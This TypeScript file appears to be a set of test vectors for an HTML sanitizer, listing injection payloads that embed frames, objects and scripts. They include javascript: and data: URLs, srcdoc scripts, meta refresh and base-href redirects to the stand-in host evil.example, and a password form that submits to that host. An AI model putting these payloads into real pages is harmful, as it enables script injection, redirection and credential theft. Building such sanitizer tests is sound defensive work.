import type { Vectors } from "./vectors.ts";

/** Embedded documents, and elements that affect the whole page. */
export const embedding: Vectors = {
  "a frame of a script": "<iframe src=javascript:RUN></iframe>",
  "a frame with a document of its own": '<iframe srcdoc="<script>RUN</script>"></iframe>',
  "a frame with a document of entities": '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  "a frame with a document of entities of entities":
    '<iframe srcdoc="&amp;lt;p&amp;gt;&lt;svg onload=RUN&gt;"></iframe>',
  "a frame with a sandbox that has a route":
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc=\"<script>RUN</script>\"></iframe>",
  "a frame of data": '<iframe src="data:text/html;base64,BASE64RUN"></iframe>',
  "a frame in a frame": "<iframe srcdoc=\"<iframe srcdoc='<script>RUN</script>'></iframe>\"></iframe>",
  "a frame of a foreign page": "<iframe src=//evil.example/ID></iframe>",
  "an object of a script": "<object data='data:text/html;base64,BASE64RUN'></object>",
  "an object of a foreign page": "<object data=//evil.example/ID></object>",
  "an embedded foreign page": "<embed src=//evil.example/ID>",
  "an embedded document of data": "<embed src='data:text/html;base64,BASE64RUN' type=text/html>",
  "a set of frames":
    "<frameset onload=RUN><frame src=//evil.example/ID></frameset><iframe src=//evil.example/ID></iframe>",
  "a portal, a fenced frame and an applet":
    "<portal src=//evil.example/ID></portal><fencedframe src=//evil.example/ID></fencedframe><applet code=//evil.example/ID></applet><embed src=//evil.example/ID>",
  "a refresh to a foreign page": "<meta http-equiv=refresh content='0;url=http://evil.example/ID'>",
  "a refresh in mixed case with a document of data": "<META HTTP-EQUIV=Refresh CONTENT='0; URL=//evil.example/ID'>",
  "a policy that says what is allowed":
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>RUN</script>",
  "a base elsewhere": "<base href=//evil.example/ID/><img src=ID><iframe src=ID></iframe>",
  "a base that opens elsewhere": "<base target=x href=//evil.example/><link rel=stylesheet href=ID><img src=/ID>",
  "an import map":
    '<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script><script type=module>import \'x\'</script>',
  "rules for speculation":
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/ID"]}]}</script><iframe src=//evil.example/ID></iframe>',
  "a template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
  "a template and a slot":
    "<template id=t><script>RUN</script></template><div><template shadowrootmode=open><slot></slot><svg onload=RUN></svg></template></div>",
  "a dialog over everything":
    "<dialog open><form method=dialog action=//evil.example/ID><button autofocus onfocus=RUN>x</button></form></dialog>",
  "a form that asks for a password":
    "<form action=//evil.example/ID><input name=password type=password autofocus onfocus=RUN><input type=submit></form>",
  "a button that submits a form from afar": "<form id=f action=javascript:RUN></form><button form=f>x</button>",
};
